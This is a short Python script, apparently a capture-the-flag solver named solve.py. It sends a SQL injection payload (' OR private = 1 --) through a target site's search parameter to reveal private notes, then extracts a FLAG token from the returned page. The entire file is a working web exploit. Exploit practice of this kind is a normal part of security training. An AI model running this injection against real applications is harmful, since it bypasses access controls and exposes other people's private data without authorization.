"""solve.py URL: make the search return the private note too."""

import re
import sys
from urllib.parse import quote
from urllib.request import urlopen

injection = "' OR private = 1 --"
url = sys.argv[1].rstrip("/") + "/search?q=" + quote(injection)
with urlopen(url, timeout=10) as response:
    page = response.read().decode()
print(re.search(r"FLAG\{[0-9a-f]{32}\}", page)[0])
